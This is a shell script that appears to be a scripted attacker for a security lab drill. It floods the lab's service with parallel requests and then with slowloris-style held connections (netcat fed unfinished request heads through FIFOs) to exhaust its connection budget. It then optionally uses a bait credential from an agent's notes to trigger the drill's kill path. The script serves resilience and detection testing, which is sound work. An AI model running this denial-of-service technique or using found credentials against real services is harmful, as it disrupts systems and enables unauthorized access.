#!/bin/sh
# flood.sh - scripted attacker (docs/agents.md): flood the lab's service
# with requests, then with slow connections, and see whether it still
# answers.  The service named in the agent's notes is the target (found the
# way Poyo finds it); the requests carry no credential, so the flood itself
# fires no bait.
#
# 1. ATTACK_REQUESTS GET requests to the service URL (401 without the
#    token), ATTACK_PARALLEL at a time, each through `ares-lab http`.
# 2. ATTACK_SLOW slow connections at once (default 72, above the service's
#    64-connection budget): busybox nc sends an unfinished request head and
#    keeps the connection open; the service should answer 408 after its 5 s
#    read timeout, or 503 at once beyond its budget.  While they are held,
#    GET /health once (503 while the budget is used up).
# 3. GET /health after the flood.
# 4. ATTACK_BAIT=after (default): then take the bait (the credential in the
#    notes against the service), so a drill runs its kill path; `before`
#    takes it first, `no` never.
#
# Output, one line per attempt (`@attempt NAME key=value... status=S`):
#   @attempt flood-request n=N status=HTTP-CODE|fail
#   @attempt slow-conn n=N status=HTTP-CODE|none|fail  (none: no answer)
#   @attempt flood-health phase=during|after status=HTTP-CODE|fail
#   @attempt flood-summary requests=N ok=N slow=N slow_refused=N status=done
#   @attempt bait-find ... / bait-use ...   (see docker-after-cutoff.sh)
#   @done flood: ...
# Bounded: requests time out after 10 s each (the http tool), slow
# connections are cut after ATTACK_SLOW_HOLD + 2 s.  Exit 0.
#
# Environment (optional): ATTACK_REQUESTS (default 200), ATTACK_PARALLEL
# (default 16), ATTACK_SLOW (default 72), ATTACK_SLOW_HOLD (s, default 8),
# ATTACK_BAIT (after|before|no), ATTACK_NOTES (default 1), ARES_LAB.
set -u
REQUESTS=${ATTACK_REQUESTS:-200}
PARALLEL=${ATTACK_PARALLEL:-16}
SLOW=${ATTACK_SLOW:-72}
HOLD=${ATTACK_SLOW_HOLD:-8}
W=/tmp/ares-flood.$$

# the shared helpers (attempt, note, finish, code, take_bait, service_addr)
. /usr/share/ares/attack.sh

# status_file FILE: the HTTP status in the first line of FILE ("HTTP 401"
# from the tool, "HTTP/1.1 408 ..." from a raw answer), or none.
status_file() {
	first=""
	[ -s "$1" ] && read -r first < "$1"
	case $first in
	"HTTP "[0-9]*|HTTP/1.[01]" "[0-9]*) set -- $first; echo "$2" ;;
	*) echo none ;;
	esac
}

note "flood: start"
[ "$BAIT" = before ] && take_bait
[ -n "${URL:-}" ] || find_bait
if [ -z "$URL" ]; then
	attempt "flood-request n=0 status=skipped"
	finish "flood: no service URL in the notes"
	exit 0
fi
service_addr
mkdir -p "$W"

# ---- 1. requests ----
n=0
ok=0
while [ "$n" -lt "$REQUESTS" ]; do
	b=0
	while [ "$b" -lt "$PARALLEL" ] && [ "$n" -lt "$REQUESTS" ]; do
		n=$((n + 1))
		b=$((b + 1))
		"$LAB" http "$URL" > "$W/r.$n" 2>/dev/null &
	done
	wait
done
i=1
while [ "$i" -le "$n" ]; do
	s=$(status_file "$W/r.$i")
	[ "$s" = none ] && s=fail
	case $s in [0-9]*) ok=$((ok + 1)) ;; esac
	attempt "flood-request n=$i status=$s"
	i=$((i + 1))
done

# ---- 2. slow connections ----
# busybox nc ends its side at the end of its input, so each connection
# reads an unfinished request head from its own FIFO that nobody closes:
# the head is written through fd 3 (opened read-write: no block), nc opens
# the FIFO read-write too, so it never sees an end of input.
i=1
while [ "$i" -le "$SLOW" ]; do
	mkfifo "$W/f.$i"
	exec 3<> "$W/f.$i"
	printf 'GET /health HTTP/1.1\r\nHost: %s\r\nX-Slow: ' "$SVC_HOST" >&3
	timeout $((HOLD + 2)) nc "${SVC_IP:-$SVC_HOST}" "$SVC_PORT" \
	    <> "$W/f.$i" > "$W/s.$i" 2>/dev/null &
	exec 3>&-
	i=$((i + 1))
done
sleep 1
out=$("$LAB" http "http://${SVC_IP:-$SVC_HOST}:$SVC_PORT/health" 2>/dev/null)
attempt "flood-health phase=during status=$(code "$out" $?)"
wait
i=1
refused=0
while [ "$i" -le "$SLOW" ]; do
	s=$(status_file "$W/s.$i")
	[ "$s" = 503 ] && refused=$((refused + 1))
	attempt "slow-conn n=$i status=$s"
	i=$((i + 1))
done

# ---- 3. after ----
out=$("$LAB" http "http://${SVC_IP:-$SVC_HOST}:$SVC_PORT/health" 2>/dev/null)
attempt "flood-health phase=after status=$(code "$out" $?)"
attempt "flood-summary requests=$n ok=$ok slow=$SLOW slow_refused=$refused status=done"
rm -rf "$W"

[ "$BAIT" = after ] && take_bait
finish "flood: $n requests ($ok answered), $SLOW slow connections ($refused refused)"
exit 0
